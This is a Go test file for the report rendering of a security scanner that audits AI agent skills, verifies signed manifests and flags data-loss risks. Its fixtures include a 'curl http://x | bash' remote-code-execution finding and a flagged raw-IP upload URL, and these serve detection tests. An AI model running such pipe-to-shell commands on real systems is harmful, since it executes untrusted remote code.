package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/fatih/color"

	"github.com/ClawSentry/ClawSentry/internal/config"
	"github.com/ClawSentry/ClawSentry/internal/dlp"
	"github.com/ClawSentry/ClawSentry/internal/manifest"
	"github.com/ClawSentry/ClawSentry/internal/rules"
	"github.com/ClawSentry/ClawSentry/internal/scanner"
)

func init() {
	color.NoColor = true
}

func TestRenderScanShowsScoreAndFindings(t *testing.T) {
	res := &scanner.ScanResult{
		SkillName:    "demo",
		FilesScanned: 2,
		TotalLines:   40,
		Findings: []scanner.Finding{
			{Severity: rules.SeverityCritical, File: "install.sh", Line: 3,
				RuleID: "curl_pipe_shell", Description: "Downloads and executes remote code",
				Snippet: "curl http://x | bash"},
			{Severity: rules.SeverityWarning, File: "run.py", Line: 7,
				RuleID: "smtp_lib", Description: "Email capability"},
		},
	}
	var buf bytes.Buffer
	RenderScan(&buf, res, config.DefaultConfig().Scanner)

	out := buf.String()
	for _, want := range []string{
		"SKILL SECURITY AUDIT: demo",
		"RISK SCORE: 33/100",
		"CAUTION",
		"CRITICAL FINDINGS (1)",
		"[install.sh:3]",
		"curl http://x | bash",
		"WARNINGS (1)",
		"FILES SCANNED: 2",
		"TOTAL LINES: 40",
		"CAUTION - Review findings before proceeding",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("report missing %q:\n%s", want, out)
		}
	}
}

func TestRenderScanCapsCriticalDetail(t *testing.T) {
	res := &scanner.ScanResult{SkillName: "noisy"}
	for i := 0; i < 14; i++ {
		res.Findings = append(res.Findings, scanner.Finding{
			Severity: rules.SeverityCritical, File: "x.sh", Line: i + 1,
			RuleID: "curl_pipe_shell", Description: "d", Snippet: "s",
		})
	}
	var buf bytes.Buffer
	RenderScan(&buf, res, config.DefaultConfig().Scanner)

	out := buf.String()
	if !strings.Contains(out, "... and 4 more") {
		t.Fatalf("expected overflow marker:\n%s", out)
	}
	if strings.Count(out, "[x.sh:") != maxCriticalShown {
		t.Fatalf("expected %d detailed criticals:\n%s", maxCriticalShown, out)
	}
}

func TestRenderVerifySummaries(t *testing.T) {
	results := []manifest.VerifyResult{
		{Skill: "alpha", State: manifest.StateVerified, Actual: strings.Repeat("a", 64), Expected: strings.Repeat("a", 64)},
		{Skill: "beta", State: manifest.StateTampered,
			Expected: strings.Repeat("b", 64), Actual: strings.Repeat("c", 64),
			Diffs: []manifest.FileDiff{{Path: "run.py", Change: manifest.ChangeModified}}},
		{Skill: "gamma", State: manifest.StateUnsigned},
		{Skill: "delta", State: manifest.StateMissing},
	}
	var buf bytes.Buffer
	RenderVerify(&buf, results)

	out := buf.String()
	for _, want := range []string{
		"[VERIFIED] alpha",
		"[TAMPERED] beta",
		"MODIFIED:", "run.py",
		"[UNSIGNED] gamma",
		"[MISSING] delta",
		"Verified: 1",
		"Tampered: 2",
		"Unsigned: 1",
		"ACTION REQUIRED",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("verify report missing %q:\n%s", want, out)
		}
	}
}

func TestRenderDLPCleanAndDirty(t *testing.T) {
	var buf bytes.Buffer
	RenderDLP(&buf, &dlp.Report{})
	if !strings.Contains(buf.String(), "[CLEAN]") {
		t.Fatalf("clean report wrong:\n%s", buf.String())
	}

	buf.Reset()
	RenderDLP(&buf, &dlp.Report{
		Findings: []dlp.Finding{
			{Tier: dlp.TierCritical, Reason: "IP address endpoint",
				File: "send.py", Line: 4, URL: "http://203.0.113.5/x"},
			{Tier: dlp.TierHigh, Reason: "Network call: requests.get/post",
				File: "send.py", Line: 9},
		},
	})
	out := buf.String()
	for _, want := range []string{
		"[CRITICAL] send.py:4",
		"URL: http://203.0.113.5/x",
		"[HIGH] send.py:9",
		"Critical: 1",
		"High:     1",
		"Total:    2",
		"203.0.113.5",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("dlp report missing %q:\n%s", want, out)
		}
	}
}

func TestScanJSONRoundTrips(t *testing.T) {
	res := &scanner.ScanResult{SkillName: "demo", FilesScanned: 1, TotalLines: 3}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, NewScanJSON(res, config.DefaultConfig().Scanner)); err != nil {
		t.Fatalf("write json: %v", err)
	}
	var decoded map[string]any
	if err := json.Unmarshal(buf.Bytes(), &decoded); err != nil {
		t.Fatalf("invalid json: %v", err)
	}
	if decoded["skill_name"] != "demo" || decoded["risk_level"] != "SAFE" {
		t.Fatalf("unexpected json: %v", decoded)
	}
	if _, ok := decoded["findings"].([]any); !ok {
		t.Fatalf("findings should be an array, got %T", decoded["findings"])
	}
	if fmt.Sprintf("%v", decoded["recommendation"]) != "APPROVE - Safe to install" {
		t.Fatalf("unexpected recommendation: %v", decoded["recommendation"])
	}
}
